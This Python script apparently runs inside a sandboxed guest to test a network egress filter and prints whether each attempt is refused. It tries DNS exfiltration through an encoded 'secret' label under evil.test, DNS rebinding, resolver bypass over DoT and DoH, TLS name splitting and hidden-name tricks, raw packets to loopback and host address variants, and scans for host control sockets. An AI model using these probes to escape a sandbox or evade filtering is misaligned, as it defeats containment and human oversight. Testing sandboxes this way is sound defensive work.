"""Runs inside a guest: attempts forbidden and allowed network access. Prints one line for each attempt.

    attack.py names|tls|packets|places|own|control
"""

import socket
import ssl
import struct
import sys
import time

PATIENCE_SECONDS = 15
GATEWAY = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")][0]
KINDS = {"A": 1, "TXT": 16, "AAAA": 28}
CODES = {0: "NOERROR", 3: "NXDOMAIN", 5: "REFUSED"}


def tell(what, result):
    print(f"{what}: {result}", flush=True)


def outcome(attempt):
    """Returns an answer, a refusal, or silence."""
    try:
        return attempt()
    except (ConnectionRefusedError, ConnectionResetError, BrokenPipeError):
        return "refused"
    except (TimeoutError, socket.timeout):
        return "silence"
    except OSError as error:
        return f"refused ({error.errno})"


def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", KINDS[kind], 1)


def read_answer(message):
    code, count = CODES.get(message[3] & 15, message[3] & 15), struct.unpack("!H", message[6:8])[0]
    addresses, at = [], 12
    while message[at]:
        at += message[at] + 1
    at += 5
    for _ in range(count):
        while message[at] and message[at] < 0xC0:
            at += message[at] + 1
        at += 2 if message[at] >= 0xC0 else 1
        kind, _, _, length = struct.unpack("!HHIH", message[at:at + 10])
        data = message[at + 10:at + 10 + length]
        at += 10 + length
        if kind == 1:
            addresses.append(socket.inet_ntop(socket.AF_INET, data))
        if kind == 28:
            addresses.append(socket.inet_ntop(socket.AF_INET6, data))
    return " ".join([code, *addresses])


def look_up(name, kind="A", tcp=False, server=GATEWAY):
    def attempt():
        family = socket.AF_INET6 if ":" in server else socket.AF_INET
        with socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as client:
            client.settimeout(PATIENCE_SECONDS)
            client.connect((server, 53))
            asked = question(name, kind)
            client.send(struct.pack("!H", len(asked)) + asked if tcp else asked)
            answer = client.recv(4096)
            if tcp and len(answer) == 2:
                answer += client.recv(4096)
            return read_answer(answer[2:] if tcp else answer)
    return outcome(attempt)


def connect(address, port, pieces=(b"GET / HTTP/1.0\r\nHost: good.example.org\r\n\r\n",), pause=0.0):
    def attempt():
        with socket.create_connection((address, port), timeout=PATIENCE_SECONDS) as client:
            for piece in pieces:
                client.sendall(piece)
                time.sleep(pause)
            answer = b""
            while received := client.recv(4096):
                answer += received
            # msb says why it refuses a request.
            if answer.startswith(b"HTTP/1.1 403 ") and b"\r\nServer: msb\r\n" in answer:
                return "refused (403)"
            return answer.decode().split("\r\n")[-1] or "refused (closed)"
    return outcome(attempt)


def send(address, port):
    def attempt():
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as client:
            client.settimeout(3)
            client.connect((address, port))
            client.send(b"ping")
            return client.recv(16).decode()
    return outcome(attempt)


def greeting(name, hidden=False):
    """Returns a TLS ClientHello for a name; `hidden`: with an encrypted ClientHello extension."""
    out = ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = bytearray(out.read())
    if hidden:
        extension = struct.pack("!HH", 0xFE0D, 8) + bytes(8)
        at = 5 + 4 + 34
        at += 1 + hello[at]
        at += 2 + struct.unpack("!H", hello[at:at + 2])[0]
        at += 1 + hello[at]
        for place, size in ((at, 2), (6, 3), (3, 2)):
            length = int.from_bytes(hello[place:place + size], "big") + len(extension)
            hello[place:place + size] = length.to_bytes(size, "big")
        hello += extension
    return bytes(hello)


def names():
    for name in ("good.example.org", "fine.example.org", "chain.example.org", "rebind.example.org",
                 "other.example.org", "c2VjcmV0.evil.test"):
        tell(f"A {name}", look_up(name))
    for kind in ("AAAA", "TXT"):
        tell(f"{kind} rebind.example.org", look_up("rebind.example.org", kind))
        tell(f"{kind} c2VjcmV0.evil.test", look_up("c2VjcmV0.evil.test", kind))
    tell("AAAA good.example.org", look_up("good.example.org", "AAAA"))
    tell("tcp good.example.org", look_up("good.example.org", tcp=True))
    tell("tcp c2VjcmV0.evil.test", look_up("c2VjcmV0.evil.test", tcp=True))
    tell("resolver udp", look_up("good.example.org", server="203.0.113.53"))
    tell("resolver tcp", look_up("good.example.org", server="203.0.113.53", tcp=True))
    tell("resolver dot", connect("203.0.113.53", 853))
    tell("resolver doh", connect("203.0.113.53", 443, [greeting("dns.example.org")]))
    tell("resolver udp 6", look_up("good.example.org", server="2001:db8::53"))
    tell("resolver tcp 6", look_up("good.example.org", server="2001:db8::53", tcp=True))
    tell("resolver dot 6", connect("2001:db8::53", 853))
    tell("mdns", send("224.0.0.251", 5353))
    tell("mdns 6", send("ff05::fb", 5353))
    tell("fine", connect("93.184.216.12", 80, [b"GET / HTTP/1.0\r\nHost: fine.example.org\r\n\r\n"]))
    for address in ("93.184.216.10", "2606:2800::10", "93.184.216.11", "2606:2800::11",
                    "93.184.216.66", "10.1.2.3"):
        tell(f"web {address}", connect(address, 80))
    for address in ("93.184.216.10", "2606:2800::10", "93.184.216.11", "2606:2800::11", "10.1.2.3", "fd12::7"):
        tell(f"udp {address}", send(address, 5000))


def tls():
    look_up("good.example.org")
    look_up("good.example.org", "AAAA")
    look_up("shared.example.org")
    look_up("shared.example.org", "AAAA")
    good, wrong = greeting("good.example.org"), greeting("other.example.org")

    def split(hello):
        return [hello[:1], hello[1:6], hello[6:60], hello[60:130], hello[130:]]

    for place in ("93.184.216.10", "2606:2800::10"):
        tell(f"right {place}", connect(place, 443, [good]))
        tell(f"shared {place}", connect(place, 443, [greeting("shared.example.org")]))
        tell(f"wrong {place}", connect(place, 443, [wrong]))
    for place in ("93.184.216.10", "2606:2800::10"):
        tell(f"right, split {place}", connect(place, 443, split(good), 0.05))
        tell(f"wrong, split {place}", connect(place, 443, split(wrong), 0.05))
        tell(f"no name {place}", connect(place, 443, [greeting(None)]))
        tell(f"hidden {place}", connect(place, 443, [greeting("good.example.org", hidden=True)]))
        tell(f"no tls {place}", connect(place, 443, [b"GET / HTTP/1.0\r\n\r\n"]))
        tell(f"quic {place}", send(place, 443))


def packets():
    tell("by name", send("open", 5353))
    tell("other port", send("open", 5354))


def places():
    tell("public", connect("93.184.216.11", 80))
    for address in sys.argv[2:]:
        tell(address, connect(address, 80))


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def own_address(gateway):
    with socket.socket(socket.AF_INET6 if ":" in gateway else socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.connect((gateway, 9))
        return client.getsockname()[0]


def first_packet(own, address, ports):
    """Returns a frame with a SYN."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    ends = socket.inet_pton(family, own) + socket.inet_pton(family, address)
    segment = bytearray(struct.pack("!HHIIBBHHH", *ports, 1000, 0, 5 << 4, 2, 65535, 0, 0))
    segment[16:18] = struct.pack("!H", checksum(ends + struct.pack("!II", len(segment), 6) + bytes(segment)))
    if family == socket.AF_INET6:
        return b"\x86\xdd", struct.pack("!IHBB", 6 << 28, len(segment), 6, 64) + ends + segment
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 7, 0, 64, 6, 0) + ends
    return b"\x08\0", header[:10] + struct.pack("!H", checksum(header)) + header[12:] + segment


def raw(gateway, address, port):
    """Connects to addresses that the guest's kernel handles itself: sends a frame and reads the answer."""
    ports = (41000 + port % 1000, port)
    kind, packet = first_packet(own_address(gateway), address, ports)
    mac = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as link:
        link.bind(("eth0", 0))
        link.send(b"\xff" * 6 + mac + kind + packet)
        until = time.monotonic() + PATIENCE_SECONDS
        while (left := until - time.monotonic()) > 0:
            link.settimeout(left)
            try:
                frame, (_, _, direction, *_) = link.recvfrom(2048)
            except TimeoutError:
                break
            if direction == socket.PACKET_OUTGOING or frame[12:14] != kind:
                continue
            protocol, payload = (frame[20], frame[54:]) if kind == b"\x86\xdd" else (frame[23], frame[34:])
            if protocol == 6 and payload[:4] == struct.pack("!HH", ports[1], ports[0]):
                return "refused" if payload[13] & 4 else "answered"
            if protocol in (1, 58) and struct.pack("!HH", *ports) in payload:
                return "refused"
    return "silence"


def own():
    """Attempts the host's addresses in all spellings, at ports on which the host listens."""
    tell("public", connect("93.184.216.11", 80))
    four, six = gateways()
    for address in ("0.0.0.0", "0.0.0.1", "127.0.0.1", "203.0.113.1", "::", "::1", "::ffff:0.0.0.0",
                    "::ffff:127.0.0.1", "::ffff:203.0.113.1", "::127.0.0.1", "64:ff9b::7f00:1", "2001:db8::1"):
        for port in map(int, sys.argv[2:]):
            tell(f"{address} {port}", raw(six if ":" in address else four, address, port))


def gateways():
    """Returns the host's addresses of the link, of both families."""
    yield GATEWAY
    for line in open("/proc/net/ipv6_route"):
        target, prefix, *_, hop = line.split()[:5]
        if int(target, 16) == 0 and int(prefix, 16) == 0 and int(hop, 16):
            yield socket.inet_ntop(socket.AF_INET6, bytes.fromhex(hop))


def answers(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(PATIENCE_SECONDS)
        try:
            client.connect(address)
            return True
        except OSError:
            return False


def control():
    """Looks for control sockets of the host, over every possible transport."""
    for gateway in gateways():
        family = socket.AF_INET6 if ":" in gateway else socket.AF_INET
        ports = [*range(1, 300), *map(int, sys.argv[2:])]
        found = [str(port) for port in ports if answers(family, (gateway, port))]
        tell(f"gateway {6 if ':' in gateway else 4}", " ".join(found))
    found = []
    for place in (0, 1, 2, 3, 0xFFFFFFFF):
        for port in (1, 2, 22, 52, 1024, 1234, 2222, 4444, 5000, 9999, 0xFFFFFFFF):
            try:
                if answers(socket.AF_VSOCK, (place, port)):
                    found.append(f"{place}:{port}")
            except (OSError, ValueError):
                pass
    tell("vsock", " ".join(found) or "nothing")
    # Listening sockets, with a path or abstract.
    listening = [line.split() for line in open("/proc/net/unix").readlines()[1:]]
    tell("unix", " ".join(line[7] for line in listening if len(line) > 7) or "nothing")
    tell("shared", " ".join(line.split()[1] for line in open("/proc/mounts")
                            if line.split()[2] in ("9p", "virtiofs", "fuse", "nfs")) or "nothing")


TRIES = {"control": control, "names": names, "own": own, "packets": packets, "places": places, "tls": tls}
if __name__ == "__main__":
    TRIES[sys.argv[1]]()
